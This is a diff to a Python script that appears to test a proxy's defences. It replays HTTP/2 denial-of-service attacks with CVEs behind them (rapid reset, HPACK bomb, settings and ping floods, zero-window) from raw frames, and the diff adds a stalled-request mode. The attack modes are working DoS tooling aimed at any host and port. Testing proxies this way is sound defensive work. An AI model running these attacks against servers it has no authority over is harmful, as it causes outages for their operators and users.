@@ -1,7 +1,7 @@
 #!/usr/bin/python3
 """HTTP/2 attacks with CVEs behind them, from raw frames: what the proxy answers each with.
 
-h2_attack.py HOST PORT ATTACK   prints one JSON object: goaway (its code, or null), resets (RST_STREAM
+h2_attack.py HOST PORT ATTACK [HOLD]   prints one JSON object: goaway (its code, or null), resets (RST_STREAM
 frames received), heads (HEADERS frames received), closed (the proxy closed the connection), sent (frames sent), seconds.
 
 rapid-reset     HEADERS then RST_STREAM, thousands of times (CVE-2023-44487)
@@ -10,6 +10,7 @@ hpack-bomb      one 4 KB header entry, then a block referring to it again and ag
                 each, megabytes decoded)
 settings-flood  SETTINGS frames, the acks never read (CVE-2019-9515)
 ping-flood      PING frames, the acks never read (CVE-2019-9512)
+stalled-request a call's head without END_STREAM, its body never sent (held HOLD seconds)
 zero-window     16 server-streaming calls (5 MB each) with a window of 0, never opened (CVE-2019-9517 style):
                 holds them open for a while and reports, the proxy's memory is the test's to measure
 """
@@ -143,6 +144,10 @@ def main():
             if not c.send(f * 1000, 1000):
                 break
         c.read(5)
+    elif attack == "stalled-request":
+        # A call whose head came and whose body never does: the server waits, and so would the proxy.
+        c.send(frame(1, 4, 1, request_block()))
+        c.read(float(sys.argv[4]) if len(sys.argv) > 4 else 3)
     elif attack == "zero-window":
         # SETTINGS_INITIAL_WINDOW_SIZE 0: no DATA may come until a WINDOW_UPDATE, which never does.
         c.send(frame(4, 0, 0, struct.pack(">HI", 4, 0)))
